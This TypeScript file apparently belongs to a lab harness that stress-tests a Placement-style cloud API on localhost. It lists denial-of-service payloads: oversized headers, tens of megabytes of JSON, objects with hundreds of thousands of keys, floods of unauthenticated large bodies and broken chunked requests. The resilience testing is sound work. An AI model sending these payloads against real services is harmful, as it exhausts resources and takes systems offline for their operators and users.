import type { Attacker } from "./attacker.ts";
import { KEYSTONE_ATTACKS } from "./keystone.ts";
import { QUERY_ATTACKS } from "./queries.ts";
import { READ_ATTACKS } from "./reads.ts";
import type { OptionGroups } from "./observed.ts";

/** One thing that a client can do to all others. */
export interface Attack {
  readonly name: string;
  /** What the service is configured with besides its defaults. */
  readonly options?: OptionGroups;
  /** Whether the fleet has very many of everything: see `much.ts`. */
  readonly hasMuch?: boolean;
  /** Begins what the service needs besides; it is configured with what that tells, too. */
  readonly prepare?: () => Promise<{ readonly options: OptionGroups; stop(): void }>;
  /** How long to wait after the attack before the connections that are still open are counted. */
  readonly lingerMs?: number;
  /** Resolves with what the attacker was told. */
  readonly run: (attacker: Attacker) => Promise<string>;
}

const MIB = 1024 * 1024;

/** Tokens that may not, without a role: the policy is to be asked ahead of the body. */
const STRANGER = "X-Auth-Token: stranger:lab\r\n";

const HEAD_AND_BROKEN_BODY =
  "GET / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n+0\r\n\r\n";

export const ATTACKS: readonly Attack[] = [
  {
    name: "refused message, field of 60,000 blanks",
    run: (attacker) =>
      attacker.send(
        `GET / HTTP/1.1\r\nX: a${" ".repeat(60_000)}b\r\nContent-Length: hi mom\r\n\r\n`,
      ),
  },
  {
    name: "X-Forwarded-Prefix of 60,000 slashes",
    options: { oslo_middleware: { enable_proxy_headers_parsing: true } },
    run: (attacker) =>
      attacker.send(
        attacker.request("GET", "/", "", {
          headers: `X-Forwarded-Prefix: ${"/".repeat(60_000)}x\r\n`,
        }),
      ),
  },
  {
    name: "POST /resource_providers, 10 MiB of `1,`",
    run: (attacker) =>
      attacker.send(
        attacker.request("POST", "/resource_providers", `[${"1,".repeat(5 * MIB - 1)}1]`),
      ),
  },
  {
    name: "POST /allocations, 30 MiB of `1,`",
    run: (attacker) =>
      attacker.send(attacker.request("POST", "/allocations", `[${"1,".repeat(15 * MIB - 1)}1]`)),
  },
  {
    name: "POST /resource_providers, 600,000 keys",
    run: (attacker) =>
      attacker.send(
        attacker.request(
          "POST",
          "/resource_providers",
          objectOf(600_000, key, () => "1"),
        ),
      ),
  },
  {
    name: "POST /allocations, 100,000 consumers of {}",
    run: (attacker) =>
      attacker.send(
        attacker.request(
          "POST",
          "/allocations",
          objectOf(100_000, uuid, () => "{}"),
        ),
      ),
  },
  {
    name: "POST /allocations, 20,000 consumers, all fine",
    run: (attacker) =>
      attacker.send(attacker.request("POST", "/allocations", objectOf(20_000, uuid, claimOn))),
  },
  {
    name: "POST /reshaper, 2,000 hosts, 20,000 consumers, all fine",
    run: (attacker) => {
      const inventories = objectOf(
        2000,
        (at) => host(at),
        () => HOST_INVENTORIES,
      );
      const allocations = objectOf(20_000, uuid, claimOn);
      const body = `{"inventories":${inventories},"allocations":${allocations}}`;
      return attacker.send(attacker.request("POST", "/reshaper", body, { headers: SERVICE }));
    },
  },
  {
    name: "POST /reshaper without a role, 30 x 32 MiB less a byte",
    lingerMs: 20_000,
    run: (attacker) => {
      const announced = 32 * MIB;
      const headers = STRANGER;
      const body = " ".repeat(announced - 1);
      const message = attacker
        .request("POST", "/reshaper", body, { announced, headers })
        .replace("X-Auth-Token: admin\r\n", "");
      return attacker.sendMany(30, message, 15_000);
    },
  },
  {
    name: "395 heads with a broken body, no token",
    lingerMs: 76_000,
    run: (attacker) => attacker.sendMany(395, HEAD_AND_BROKEN_BODY, 5000),
  },
  ...["{}", "1"].map((value) => ({
    name: `PUT …/traits, 256 KiB of \`${value},\``,
    run: (attacker: Attacker) =>
      attacker.send(
        attacker.request(
          "PUT",
          `/resource_providers/${uuid(1).replace("c", "a")}/traits`,
          listOf(value),
        ),
      ),
  })),
  ...QUERY_ATTACKS,
  ...READ_ATTACKS,
  ...KEYSTONE_ATTACKS,
];

/** May reshape. */
const SERVICE = "X-Roles: admin,service\r\n";

/** Of a new consumer, on one of the hosts of the fleet. */
function claimOn(at: number): string {
  return JSON.stringify({
    allocations: { [host(at % 2000)]: { resources: { MEMORY_MB: 1 } } },
    project_id: "lab",
    user_id: "ann",
    consumer_generation: null,
    consumer_type: "INSTANCE",
  });
}

/** Those of a host of the fleet, with more memory. */
const HOST_INVENTORIES = JSON.stringify({
  resource_provider_generation: 1,
  inventories: { VCPU: { total: 64 }, MEMORY_MB: { total: 300_000 }, DISK_GB: { total: 4000 } },
});

/** As long as a small body may be. */
function listOf(value: string): string {
  return `[${Array(Math.floor((MIB / 4 - 2) / (value.length + 1)))
    .fill(value)
    .join(",")}]`;
}

function objectOf(
  count: number,
  keyOf: (at: number) => string,
  valueOf: (at: number) => string,
): string {
  const members = Array.from({ length: count }, (_, at) => `"${keyOf(at)}":${valueOf(at)}`);
  return `{${members.join(",")}}`;
}

function key(at: number): string {
  return `key${at}`;
}

function host(at: number): string {
  return `a0000000-0000-4000-8000-${String(at + 1).padStart(12, "0")}`;
}

function uuid(at: number): string {
  return `c0000000-0000-4000-8000-${String(at).padStart(12, "0")}`;
}
